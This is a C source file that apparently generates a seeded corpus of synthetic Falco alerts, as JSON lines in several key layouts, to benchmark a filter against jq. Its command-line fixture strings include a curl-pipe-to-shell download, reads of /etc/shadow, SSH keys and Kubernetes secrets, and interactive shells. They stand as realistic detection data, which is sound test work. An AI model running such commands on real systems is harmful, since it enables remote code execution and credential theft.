/*
 * gen-corpus: writes the benchmark's corpus of Falco alerts, one JSON object
 * a line, shaped like tests/fixtures/samples.ndjson (reference.md §1): the
 * same key sets, both key orders (old Falco: output_fields last; Falco >= 0.40:
 * alphabetical), int64 evt.time beyond 2^53, null values, numbers as strings,
 * JSON inside strings, k8s_audit alerts with ka.* fields only.
 *
 *	gen-corpus BYTES
 *
 * Lines are written until at least BYTES bytes are out. The generator is
 * seeded with a constant, so a run is reproducible and a smaller BYTES gives a
 * line prefix of a larger one (run.sh relies on that for the jq prefix).
 *
 * Some values are traps for a filter that scans bytes instead of parsing:
 * namespaces "demo-staging" and "Demo", a ka.target.namespace of "demo", and
 * command lines holding the text "k8s.ns.name":"demo" or priority names.
 * Comparing falco-filter's and jq's counts on this corpus checks them.
 */
#include <err.h>
#include <errno.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))
#define LINE_CAPACITY 16384

struct line {
	char text[LINE_CAPACITY];
	size_t len;
};

/* What one alert is about; each template renders it in its own shape. */
struct event {
	int64_t time_ns;
	const char *priority;
	const char *hostname;
	const char *ns;		/* NULL: a host process, JSON null */
	char pod[80];
	char container_id[16];
	char container_name[64];
	const char *image;
	const char *image_tag;
	const char *cmdline;
	char clock[64];		/* HH:MM:SS.nnnnnnnnn, the output prefix */
	char iso_clock[96];	/* the prefix with time_format_iso_8601 */
	char time[96];		/* YYYY-MM-DDTHH:MM:SS.nnnnnnnnnZ */
};

/* splitmix64: tiny, fast, and identical everywhere, unlike rand(). */
static uint64_t rng_state = 0x5eedfa1c0b3e7c4dULL;

static uint64_t
rng_next(void)
{
	uint64_t z = (rng_state += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static unsigned
pick(size_t n)
{
	return (unsigned)(rng_next() % n);
}

/* Weighted by repetition: the common priorities appear more often. */
static const char *const container_priorities[] = {
	"Notice", "Notice", "Notice", "Notice", "Notice", "Warning", "Warning",
	"Warning", "Warning", "Informational", "Informational",
	"Informational", "Critical", "Critical", "Error", "Error", "Alert",
	"Emergency", "Debug",
};

/* "demo" twice, so about one container alert in eight is in it. */
static const char *const namespaces[] = {
	"default", "kube-system", "demo", "demo", "prod", "payments",
	"monitoring", "ingress-nginx", "openfaas-fn", "cert-manager", "argocd",
	"staging", "demo-staging", "Demo", "fission-function", "hello-app",
};

static const char *const apps[] = {
	"nginx", "api-gateway", "checkout", "redis", "postgres", "frontend",
	"falco-pod-delete", "poolmgr-go-default", "kubecon", "alpine", "worker",
	"payment-service", "grafana", "prometheus-server", "coredns",
};

static const char *const images[] = {
	"docker.io/library/alpine", "docker.io/library/nginx",
	"docker.io/library/redis", "docker.io/library/postgres",
	"ghcr.io/example/checkout", "devopps/falco-pod-delete",
	"fission/fetcher", "quay.io/prometheus/prometheus",
	"registry.k8s.io/coredns/coredns", "docker.io/grafana/grafana",
};

static const char *const tags[] = {
	"latest", "1.25.3", "7.2", "16-alpine", "v2.51.0", "1.13.1", "3.19",
};

static const char *const hostnames[] = {
	"falco-xczjd", "falco-7k2mp", "falco-q9w4t", "my-pool-1-node-921b61",
	"ip-192-168-34-135.ec2.internal", "x86", "worker-3",
};

static const char *const shell_cmdlines[] = {
	"sh -c clear; (bash || ash || sh)",
	"sh -c uptime",
	"bash",
	"sh -c cat /etc/passwd",
	"bash -c curl -s http://10.0.0.5/x | sh",
	"sh -c echo \"k8s.ns.name\":\"demo\" priority=Critical",
	"sh -c echo k8s.ns.name=demo priority=Emergency",
	"sh -c ls -la /var/run/secrets/kubernetes.io/serviceaccount",
	"bash -i",
	"sh -c printf 'caf\xc3\xa9\\t%s\\n' \"$HOSTNAME\"",
	"sh -c echo '{\"priority\":\"Emergency\",\"output_fields\":{}}'",
	"ash -c id\tuname -a",
};

static const char *const api_cmdlines[] = {
	"handler",
	"fetcher -secret-dir /secrets -cfgmap-dir /configs",
	"kubectl get pods -A",
	"/usr/bin/operator --leader-elect",
	"curl -sk https://kubernetes.default.svc/api/v1/namespaces/demo/secrets",
};

static const char *const sensitive_files[] = {
	"/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth",
	"/root/.ssh/id_rsa", "/etc/gshadow",
};

static const char *const audit_users[] = {
	"kubernetes-admin", "csi-cinder-controller",
	"system:node:ip-192-168-34-135.ec2.internal",
	"system:serviceaccount:demo:deployer", "alice@example.com",
};

static void
put(struct line *l, const char *s)
{
	size_t n = strlen(s);

	if (l->len + n >= LINE_CAPACITY)
		abort();	/* a template bug, not an input problem */
	memcpy(l->text + l->len, s, n);
	l->len += n;
}

__attribute__((format(printf, 2, 3)))
static void
putf(struct line *l, const char *format, ...)
{
	va_list ap;
	int n;

	va_start(ap, format);
	n = vsnprintf(l->text + l->len, LINE_CAPACITY - l->len, format, ap);
	va_end(ap);
	if (n < 0 || (size_t)n >= LINE_CAPACITY - l->len)
		abort();
	l->len += (size_t)n;
}

/* A JSON string as Falco writes it: UTF-8 kept, controls escaped. */
static void
put_string(struct line *l, const char *s)
{
	char escape[8];

	put(l, "\"");
	for (; *s != '\0'; s++) {
		unsigned char c = (unsigned char)*s;

		if (c == '"')
			put(l, "\\\"");
		else if (c == '\\')
			put(l, "\\\\");
		else if (c == '\n')
			put(l, "\\n");
		else if (c == '\t')
			put(l, "\\t");
		else if (c < 0x20) {
			snprintf(escape, sizeof escape, "\\u%04x", c);
			put(l, escape);
		} else {
			if (l->len + 1 >= LINE_CAPACITY)
				abort();
			l->text[l->len++] = (char)c;
		}
	}
	put(l, "\"");
}

/* "key":"value", or "key":null when value is NULL; first omits the comma. */
static void
put_field(struct line *l, const char *key, const char *value)
{
	if (l->text[l->len - 1] != '{')
		put(l, ",");
	put_string(l, key);
	put(l, ":");
	if (value == NULL)
		put(l, "null");
	else
		put_string(l, value);
}

static void
put_number(struct line *l, const char *key, int64_t value)
{
	if (l->text[l->len - 1] != '{')
		put(l, ",");
	put_string(l, key);
	putf(l, ":%" PRId64, value);
}

static void
put_tags(struct line *l, const char *const *list, size_t n)
{
	put(l, ",\"tags\":[");
	for (size_t i = 0; i < n; i++) {
		if (i > 0)
			put(l, ",");
		put_string(l, list[i]);
	}
	put(l, "]");
}

static void
random_chars(char *out, size_t n, const char *alphabet)
{
	size_t k = strlen(alphabet);

	for (size_t i = 0; i < n; i++)
		out[i] = alphabet[pick(k)];
	out[n] = '\0';
}

static void
set_clocks(struct event *e)
{
	time_t seconds = (time_t)(e->time_ns / 1000000000);
	long nanos = (long)(e->time_ns % 1000000000);
	struct tm tm;

	gmtime_r(&seconds, &tm);
	snprintf(e->clock, sizeof e->clock, "%02d:%02d:%02d.%09ld",
	    tm.tm_hour, tm.tm_min, tm.tm_sec, nanos);
	snprintf(e->iso_clock, sizeof e->iso_clock,
	    "%04d-%02d-%02dT%02d:%02d:%02d.%09ld+0000", tm.tm_year + 1900,
	    tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, nanos);
	snprintf(e->time, sizeof e->time,
	    "%04d-%02d-%02dT%02d:%02d:%02d.%09ldZ", tm.tm_year + 1900,
	    tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec, nanos);
}

static void
new_event(struct event *e, int64_t time_ns)
{
	char hash[12], suffix[8];
	const char *app = apps[pick(COUNT(apps))];

	/* Kubernetes' own alphabet for generated names: no vowels, no 0/1/3. */
	random_chars(hash, 10, "bcdfghjklmnpqrstvwxz2456789");
	random_chars(suffix, 5, "bcdfghjklmnpqrstvwxz2456789");
	random_chars(e->container_id, 12, "0123456789abcdef");
	e->time_ns = time_ns;
	e->priority = container_priorities[pick(COUNT(container_priorities))];
	e->hostname = hostnames[pick(COUNT(hostnames))];
	e->ns = namespaces[pick(COUNT(namespaces))];
	snprintf(e->pod, sizeof e->pod, "%s-%s-%s", app, hash, suffix);
	snprintf(e->container_name, sizeof e->container_name, "%s", app);
	e->image = images[pick(COUNT(images))];
	e->image_tag = tags[pick(COUNT(tags))];
	e->cmdline = shell_cmdlines[pick(COUNT(shell_cmdlines))];
	set_clocks(e);
}

/* Falco >= 0.41 layout: alphabetical keys, suggested container fields. */
static void
terminal_shell(struct line *l, const struct event *e)
{
	static const char *const shell_tags[] = {
		"T1059", "container", "maturity_stable", "mitre_execution",
		"shell",
	};
	char output[2048];

	snprintf(output, sizeof output, "%s: %s A shell was spawned in a "
	    "container with an attached terminal (evt_type=execve user=root "
	    "user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/busybox "
	    "parent=runc command=%s terminal=34816 exe_flags=EXE_WRITABLE "
	    "container_id=%s container_name=%s container_image_repository=%s "
	    "container_image_tag=%s k8s_pod_name=%s k8s_ns_name=%s)",
	    e->clock, e->priority, e->cmdline, e->container_id,
	    e->container_name, e->image, e->image_tag, e->pod, e->ns);
	put(l, "{");
	put_field(l, "hostname", e->hostname);
	put_field(l, "output", output);
	put(l, ",\"output_fields\":{");
	put_field(l, "container.id", e->container_id);
	put_field(l, "container.image.repository", e->image);
	put_field(l, "container.image.tag", e->image_tag);
	put_field(l, "container.name", e->container_name);
	put_field(l, "evt.arg.flags", "EXE_WRITABLE");
	put_number(l, "evt.time", e->time_ns);
	put_field(l, "evt.type", "execve");
	put_field(l, "k8s.ns.name", e->ns);
	put_field(l, "k8s.pod.name", e->pod);
	put_field(l, "proc.cmdline", e->cmdline);
	put_field(l, "proc.exepath", "/bin/busybox");
	put_field(l, "proc.name", "sh");
	put_field(l, "proc.pname", "runc");
	put_number(l, "proc.tty", 34816);
	put_number(l, "user.loginuid", -1);
	put_field(l, "user.name", "root");
	put_number(l, "user.uid", 0);
	put(l, "}");
	put_field(l, "priority", e->priority);
	put_field(l, "rule", "Terminal shell in container");
	put_field(l, "source", "syscall");
	put_tags(l, shell_tags, COUNT(shell_tags));
	put_field(l, "time", e->time);
	put(l, "}");
}

/* Pre-2022 layout: no hostname, source or tags; output_fields appended last,
 * sometimes with the space Falco wrote after the comma. */
static void
contact_api_server(struct line *l, const struct event *e)
{
	char output[2048], connection[80];
	const char *cmdline = api_cmdlines[pick(COUNT(api_cmdlines))];

	snprintf(connection, sizeof connection,
	    "172.17.%u.%u:%u->10.96.0.1:443", pick(8), 2 + pick(250),
	    32768 + pick(28000));
	snprintf(output, sizeof output, "%s: %s Unexpected connection to K8s "
	    "API Server from container (command=%s k8s.ns=%s k8s.pod=%s "
	    "container=%s image=%s:%s connection=%s) k8s.ns=%s k8s.pod=%s "
	    "container=%s", e->clock, e->priority, cmdline, e->ns, e->pod,
	    e->container_id, e->image, e->image_tag, connection, e->ns, e->pod,
	    e->container_id);
	put(l, "{");
	put_field(l, "output", output);
	put_field(l, "priority", e->priority);
	put_field(l, "rule", "Contact K8S API Server From Container");
	put_field(l, "time", e->time);
	put(l, pick(2) ? ", \"output_fields\": {" : ",\"output_fields\":{");
	put_field(l, "container.id", e->container_id);
	put_field(l, "container.image.repository", e->image);
	put_field(l, "container.image.tag", e->image_tag);
	put_number(l, "evt.time", e->time_ns);
	put_field(l, "fd.name", connection);
	put_field(l, "k8s.ns.name", e->ns);
	put_field(l, "k8s.pod.name", e->pod);
	put_field(l, "proc.cmdline", cmdline);
	put(l, "}}");
}

/* Host and container processes alike; on the host the k8s fields are null. */
static void
read_sensitive_file(struct line *l, const struct event *e)
{
	static const char *const file_tags[] = {
		"T1555", "container", "filesystem", "host", "maturity_stable",
		"mitre_credential_access",
	};
	int on_host = pick(3) == 0;
	const char *file = sensitive_files[pick(COUNT(sensitive_files))];
	const char *id = on_host ? "host" : e->container_id;
	const char *name = on_host ? "host" : e->container_name;
	const char *ns = on_host ? NULL : e->ns;
	const char *pod = on_host ? NULL : e->pod;
	char cmdline[128], output[2048];

	snprintf(cmdline, sizeof cmdline, "cat %s", file);
	snprintf(output, sizeof output, "%s: %s Sensitive file opened for "
	    "reading by non-trusted program (file=%s gparent=sudo ggparent=zsh "
	    "gggparent=kitty evt_type=openat user=root user_uid=0 "
	    "user_loginuid=1000 process=cat proc_exepath=/usr/bin/cat "
	    "parent=sudo command=%s terminal=34820 container_id=%s "
	    "container_name=%s k8s_pod_name=%s k8s_ns_name=%s)", e->clock,
	    e->priority, file, cmdline, id, name, pod ? pod : "<NA>",
	    ns ? ns : "<NA>");
	put(l, "{");
	put_field(l, "hostname", e->hostname);
	put_field(l, "output", output);
	put(l, ",\"output_fields\":{");
	put_field(l, "container.id", id);
	put_field(l, "container.name", name);
	put_number(l, "evt.time", e->time_ns);
	put_field(l, "evt.type", "openat");
	put_field(l, "fd.name", file);
	put_field(l, "k8s.ns.name", ns);
	put_field(l, "k8s.pod.name", pod);
	put_field(l, "proc.aname[2]", "sudo");
	put_field(l, "proc.aname[3]", "zsh");
	put_field(l, "proc.aname[4]", "kitty");
	put_field(l, "proc.cmdline", cmdline);
	put_field(l, "proc.exepath", "/usr/bin/cat");
	put_field(l, "proc.name", "cat");
	put_field(l, "proc.pname", "sudo");
	put_number(l, "proc.tty", 34820);
	put_number(l, "user.loginuid", 1000);
	put_field(l, "user.name", "root");
	put_number(l, "user.uid", 0);
	put(l, "}");
	put_field(l, "priority", e->priority);
	put_field(l, "rule", "Read sensitive file untrusted");
	put_field(l, "source", "syscall");
	put_tags(l, file_tags, COUNT(file_tags));
	put_field(l, "time", e->time);
	put(l, "}");
}

/* ISO time prefix, evt.time.iso8601 instead of evt.time, a null ancestor. */
static void
run_shell_untrusted(struct line *l, const struct event *e)
{
	static const char *const shell_tags[] = {
		"T1059.004", "container", "host", "maturity_stable",
		"mitre_execution", "process", "shell",
	};
	char output[2048];

	snprintf(output, sizeof output, "%s: %s Shell spawned by untrusted "
	    "binary (parent_exe=/tmp/falco-event-generator/httpd "
	    "parent_exepath=/bin/event-generator pcmdline=httpd --loglevel "
	    "info run ^helper.RunShell$ gparent=event-generator "
	    "ggparent=containerd-shim aname[4]=runc aname[5]=init "
	    "aname[6]=init aname[7]=<NA> evt_type=execve user=root user_uid=0 "
	    "user_loginuid=-1 process=bash proc_exepath=/bin/bash parent=httpd "
	    "command=%s terminal=0 exe_flags=EXE_WRITABLE container_id=%s "
	    "container_name=%s)", e->iso_clock, e->priority, e->cmdline,
	    e->container_id, e->container_name);
	put(l, "{");
	put_field(l, "hostname", e->hostname);
	put_field(l, "output", output);
	put_field(l, "priority", e->priority);
	put_field(l, "rule", "Run shell untrusted");
	put_field(l, "source", "syscall");
	put_tags(l, shell_tags, COUNT(shell_tags));
	put_field(l, "time", e->time);
	put(l, ",\"output_fields\":{");
	put_field(l, "container.id", e->container_id);
	put_field(l, "container.name", e->container_name);
	put_field(l, "evt.arg.flags", "EXE_WRITABLE");
	put_number(l, "evt.time.iso8601", e->time_ns);
	put_field(l, "evt.type", "execve");
	put_field(l, "k8s.ns.name", e->ns);
	put_field(l, "k8s.pod.name", e->pod);
	put_field(l, "proc.aname[2]", "event-generator");
	put_field(l, "proc.aname[3]", "containerd-shim");
	put_field(l, "proc.aname[4]", "runc");
	put_field(l, "proc.aname[5]", "init");
	put_field(l, "proc.aname[6]", "init");
	put_field(l, "proc.aname[7]", NULL);
	put_field(l, "proc.cmdline", e->cmdline);
	put_field(l, "proc.exepath", "/bin/bash");
	put_field(l, "proc.name", "bash");
	put_field(l, "proc.pcmdline",
	    "httpd --loglevel info run ^helper.RunShell$");
	put_field(l, "proc.pname", "httpd");
	put_number(l, "proc.tty", 0);
	put_number(l, "user.loginuid", -1);
	put_field(l, "user.name", "root");
	put_number(l, "user.uid", 0);
	put(l, "}}");
}

/* k8s_audit: the namespace is ka.target.namespace, never k8s.ns.name. */
static void
audit_event(struct line *l, const struct event *e)
{
	static const char *const audit_tags[] = { "k8s" };
	const char *user = audit_users[pick(COUNT(audit_users))];
	char output[2048];
	unsigned kind = pick(3);

	put(l, "{");
	put_field(l, "hostname", e->hostname);
	if (kind == 0) {
		snprintf(output, sizeof output, "%s: Warning K8s Operation "
		    "performed by user not in allowed list of users (user=%s "
		    "target=%s/pods verb=delete uri=/api/v1/namespaces/%s/pods/%s "
		    "resp=200)", e->clock, user, e->pod, e->ns, e->pod);
		put_field(l, "output", output);
		put(l, ",\"output_fields\":{");
		put_number(l, "evt.time", e->time_ns);
		put_field(l, "ka.response.code", "200");
		put_field(l, "ka.target.name", e->pod);
		put_field(l, "ka.target.namespace", e->ns);
		put_field(l, "ka.target.resource", "pods");
		put_field(l, "ka.user.name", user);
		put_field(l, "ka.verb", "delete");
		put(l, "}");
		put_field(l, "priority", "Warning");
		put_field(l, "rule", "Disallowed K8s User");
	} else if (kind == 1) {
		snprintf(output, sizeof output, "%s: Notice Attach/Exec to pod "
		    "(user=%s pod=%s resource=pods ns=%s action=exec "
		    "command=sh)", e->clock, user, e->pod, e->ns);
		put_field(l, "output", output);
		put(l, ",\"output_fields\":{");
		put_number(l, "evt.time", e->time_ns);
		put_field(l, "ka.target.name", e->pod);
		put_field(l, "ka.target.namespace", e->ns);
		put_field(l, "ka.target.resource", "pods");
		put_field(l, "ka.target.subresource", "exec");
		put_field(l, "ka.uri.param[command]", "sh");
		put_field(l, "ka.user.name", user);
		put(l, "}");
		put_field(l, "priority", "Notice");
		put_field(l, "rule", "Attach/Exec Pod");
	} else {
		snprintf(output, sizeof output, "%s: Informational K8s "
		    "Serviceaccount Created (user=%s serviceaccount=default ns=%s "
		    "resource=serviceaccounts resp=201 decision=allow reason=)",
		    e->clock, user, e->ns);
		put_field(l, "output", output);
		put(l, ",\"output_fields\":{");
		put_number(l, "evt.time", e->time_ns);
		put_field(l, "ka.auth.decision", "allow");
		put_field(l, "ka.auth.reason", "");
		put_field(l, "ka.response.code", "201");
		put_field(l, "ka.target.name", "default");
		put_field(l, "ka.target.namespace", e->ns);
		put_field(l, "ka.target.resource", "serviceaccounts");
		put_field(l, "ka.user.name", user);
		put(l, "}");
		put_field(l, "priority", "Informational");
		put_field(l, "rule", "K8s Serviceaccount Created");
	}
	put_field(l, "source", "k8s_audit");
	put_tags(l, audit_tags, COUNT(audit_tags));
	put_field(l, "time", e->time);
	put(l, "}");
}

/* The custom outbound rule of the seed scenario, old key order. */
static void
forbidden_connection(struct line *l, const struct event *e)
{
	static const char *const network_tags[] = { "network" };
	char output[2048], fd_name[80], cmdline[160];
	const char *sip = pick(2) ? "213.215.222.58" : "213.215.222.59";
	unsigned sport = 32768 + pick(28000);

	snprintf(fd_name, sizeof fd_name, "10.244.%u.%u:%u->%s:443", pick(4),
	    2 + pick(250), sport, sip);
	snprintf(cmdline, sizeof cmdline, "curl -s https://vistatech.it/%s",
	    e->container_id);
	snprintf(output, sizeof output, "%s: %s Outbound connection to "
	    "vistatech.it (command=%s connection=%s user=root container_id=%s "
	    "k8s.ns=%s k8s.pod=%s)", e->clock, e->priority, cmdline, fd_name,
	    e->container_id, e->ns, e->pod);
	put(l, "{");
	put_field(l, "output", output);
	put_field(l, "hostname", e->hostname);
	put_field(l, "priority", e->priority);
	put_field(l, "rule", "Connection to vistatech.it");
	put_field(l, "source", "syscall");
	put_tags(l, network_tags, COUNT(network_tags));
	put_field(l, "time", e->time);
	put(l, ",\"output_fields\":{");
	put_field(l, "container.id", e->container_id);
	put_number(l, "evt.time", e->time_ns);
	put_field(l, "fd.name", fd_name);
	put_field(l, "fd.sip", sip);
	put_number(l, "fd.sport", sport);
	put_field(l, "k8s.ns.name", e->ns);
	put_field(l, "k8s.pod.name", e->pod);
	put_field(l, "proc.cmdline", cmdline);
	put_field(l, "user.name", "root");
	put(l, "}}");
}

/* Falcosidekick's test event shape: hostname second, Error. */
static void
write_below_binary_dir(struct line *l, const struct event *e)
{
	char output[2048], path[64], cmdline[96];

	snprintf(path, sizeof path, "/bin/%s", e->container_id + 6);
	snprintf(cmdline, sizeof cmdline, "touch %s", path);
	snprintf(output, sizeof output, "%s: Error File below a known binary "
	    "directory opened for writing (user=root command=%s file=%s)",
	    e->clock, cmdline, path);
	put(l, "{");
	put_field(l, "output", output);
	put_field(l, "hostname", e->hostname);
	put_field(l, "priority", "Error");
	put_field(l, "rule", "Write below binary dir");
	put_field(l, "time", e->time);
	put(l, ",\"output_fields\":{");
	put_number(l, "evt.time", e->time_ns);
	put_field(l, "fd.name", path);
	put_field(l, "k8s.ns.name", e->ns);
	put_field(l, "proc.cmdline", cmdline);
	put_field(l, "user.name", "root");
	put(l, "}}");
}

/* Falco internal: floats, big integers, no tags, no k8s fields. */
static void
metrics_snapshot(struct line *l, const struct event *e)
{
	unsigned rate = 1000 + pick(9000);

	put(l, "{");
	put_field(l, "hostname", e->hostname);
	put_field(l, "output", "Falco metrics snapshot");
	put(l, ",\"output_fields\":{");
	put_field(l, "evt.hostname", e->hostname);
	put_field(l, "evt.source", "syscall");
	put_number(l, "evt.time", e->time_ns);
	put_number(l, "falco.duration_sec", 80 + pick(100000));
	putf(l, ",\"falco.evts_rate_sec\":%u.%u", rate, pick(10));
	put_number(l, "falco.host_boot_ts", e->time_ns - 1460000000000LL);
	put_number(l, "falco.host_num_cpus", 8);
	put_field(l, "falco.kernel_release", "6.14.6-300.fc42.x86_64");
	put_number(l, "falco.num_evts", 276408 + pick(1000000));
	put_number(l, "falco.outputs_queue_num_drops", 0);
	put_field(l, "falco.version", "0.41.0");
	put_field(l, "scap.engine_name", "modern_bpf");
	put(l, ",\"scap.n_drops_perc\":0.0}");
	put_field(l, "priority", "Informational");
	put_field(l, "rule", "Falco internal: metrics snapshot");
	put_field(l, "source", "internal");
	put_field(l, "time", e->time);
	put(l, "}");
}

/* Falco 0.23's drop alert: every number is a string. */
static void
syscall_event_drop(struct line *l, const struct event *e)
{
	char drops[24], output[160];

	snprintf(drops, sizeof drops, "%u", 1000 + pick(9000000));
	snprintf(output, sizeof output, "Falco internal: syscall event drop. "
	    "%s system calls dropped in last second.", drops);
	put(l, "{");
	put_field(l, "output", output);
	put(l, ",\"output_fields\":{");
	put_field(l, "ebpf_enabled", "1");
	put_field(l, "n_drops", drops);
	put_field(l, "n_drops_buffer", drops);
	put_field(l, "n_drops_bug", "0");
	put_field(l, "n_drops_pf", "0");
	put_field(l, "n_evts", "134571");
	put(l, "}");
	put_field(l, "priority", "Critical");
	put_field(l, "rule", "Falco internal: syscall event drop");
	put_field(l, "time", e->time);
	put(l, "}");
}

typedef void template_fn(struct line *, const struct event *);

/* Weighted by repetition, roughly the mix a busy cluster sends. */
static template_fn *const templates[] = {
	terminal_shell, terminal_shell, terminal_shell,
	contact_api_server, contact_api_server,
	read_sensitive_file, read_sensitive_file,
	run_shell_untrusted, run_shell_untrusted,
	audit_event, audit_event, audit_event,
	forbidden_connection, write_below_binary_dir, metrics_snapshot,
};

static unsigned long long
parse_size(const char *text)
{
	char *end;
	unsigned long long n;

	errno = 0;
	n = strtoull(text, &end, 10);
	if (errno != 0 || end == text || *end != '\0' || text[0] == '-' ||
	    n == 0) {
		errx(2, "'%s': invalid size", text);
	}
	return n;
}

int
main(int argc, char *argv[])
{
	static char output_buffer[1 << 20];
	static struct line l;
	struct event e;
	unsigned long long target, written = 0;
	int64_t time_ns = 1714521600000000000LL;	/* 2024-05-01 */
	unsigned long long n;

	if (argc != 2) {
		fprintf(stderr, "usage: gen-corpus BYTES\n");
		return 2;
	}
	target = parse_size(argv[1]);
	setvbuf(stdout, output_buffer, _IOFBF, sizeof output_buffer);
	for (n = 0; written < target; n++) {
		/* Up to 50 ms apart, so the nanoseconds are all significant. */
		time_ns += (int64_t)(rng_next() % 50000000);
		new_event(&e, time_ns);
		l.len = 0;
		if (n % 997 == 996)
			syscall_event_drop(&l, &e);
		else
			templates[pick(COUNT(templates))](&l, &e);
		put(&l, "\n");
		if (fwrite(l.text, 1, l.len, stdout) != l.len)
			break;
		written += l.len;
	}
	if (fflush(stdout) != 0 || ferror(stdout))
		err(1, "stdout");
	return 0;
}
